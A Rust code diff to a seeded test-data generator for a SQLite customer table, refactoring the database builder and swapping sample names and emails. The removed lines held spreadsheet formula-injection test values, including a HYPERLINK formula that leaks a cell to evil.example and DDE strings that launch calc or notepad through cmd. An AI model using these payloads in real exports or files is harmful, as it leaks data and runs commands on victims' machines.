@@ -1,7 +1,9 @@
-//! The customer table: a seeded, deterministic generator and the SQLite schema.
+//! The customer table: its SQLite schema and a seeded, deterministic generator of rows.
 
 use lab_kit::sqlite::TempDb;
 use rusqlite::{Connection, Row};
+
+use super::Record;
 
 /// The seed of every table the lab builds.
 pub const SEED: u64 = 0x5eed_c5e5;
@@ -29,7 +31,7 @@ pub struct Customer {
 }
 
 impl Customer {
-    /// Reads a row of [`crate::SELECT_SQL`].
+    /// Reads a row of [`super::SELECT_SQL`].
     pub fn from_row(row: &Row<'_>) -> rusqlite::Result<Self> {
         Ok(Self {
             id: row.get(0)?,
@@ -39,11 +41,21 @@ impl Customer {
             created_at: row.get(4)?,
         })
     }
+
+    /// The row as the export writes it.
+    pub fn record(&self) -> Record<'_> {
+        Record {
+            id: self.id,
+            name: &self.name,
+            email: &self.email,
+            amount_cents: self.amount_cents,
+            created_at: &self.created_at,
+        }
+    }
 }
 
-/// Names people type into a sign-up form: commas, quotes, line breaks, non-ASCII text,
-/// and cells a spreadsheet would run as formulas (`=`, `+`, `-`, `@`, tab, carriage
-/// return at the start).
+/// Names people type into a sign-up form: commas, double quotes, line breaks, tabs and
+/// non-ASCII text, so the export's quoting is exercised on every run.
 const NAMES: [&str; 16] = [
     "Ada Lovelace",
     "Hopper, Grace",
@@ -53,11 +65,11 @@ const NAMES: [&str; 16] = [
     "李雷",
     "Ñandú Pérez",
     "Ferris 🦀",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
-    "+1 555 0100",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(A1:A9)",
-    "\tTabbed Name",
+    "Smith & Sons, Ltd.",
+    "Carriage\r\nReturn",
+    "Tab\tSeparated",
+    "\"Quoted\"",
+    "Grace Hopper",
     "Plain Customer",
     "O'Brien; Seán",
     "Mary-Jane Watson",
@@ -101,10 +113,9 @@ impl Iterator for Generator {
         self.next_id += 1;
         let name = NAMES[self.below(16) as usize].to_owned();
         let email = match self.below(20) {
-            0 => format!("=cmd|' /C notepad'!A{id}"),
-            1 => format!("@{id}.example"),
-            2 => format!("\"quoted\"{id}@example.org"),
-            3 => format!("zoë.{id}@exämple.de"),
+            0 => format!("\"quoted\"{id}@example.org"),
+            1 => format!("zoë.{id}@exämple.de"),
+            2 => format!("first.last+{id}@example.co.uk"),
             _ => format!("customer{id}@example.com"),
         };
         // Amounts from -200.00 (refunds) to 1799.99.
@@ -164,14 +175,19 @@ pub fn load(
 
 /// A database file holding `rows` generated customers.
 pub fn build(rows: u64, seed: u64) -> lab_kit::Result<TempDb> {
+    let count =
+        usize::try_from(rows).map_err(|_| lab_kit::Error::Invalid("too many rows".into()))?;
+    database(Generator::new(seed).take(count))
+}
+
+/// A database file holding `customers`.
+pub fn database(customers: impl IntoIterator<Item = Customer>) -> lab_kit::Result<TempDb> {
     let db = TempDb::new()?;
     let conn = db.connect()?;
     // A throwaway table: no fsync on commit (the journal stays, so read locks still work as
     // in production).
     conn.pragma_update(None, "synchronous", "OFF")?;
-    let count =
-        usize::try_from(rows).map_err(|_| lab_kit::Error::Invalid("too many rows".into()))?;
-    load(&conn, Generator::new(seed).take(count))?;
+    load(&conn, customers)?;
     Ok(db)
 }
 
@@ -191,6 +207,6 @@ mod tests {
         let a: Vec<Customer> = Generator::new(SEED).take(50).collect();
         let b: Vec<Customer> = Generator::new(SEED).take(50).collect();
         assert_eq!(a, b);
-        assert!(a.iter().any(|c| c.name.starts_with('=')));
+        assert!(a.iter().any(|c| c.name.contains(',')));
     }
 }
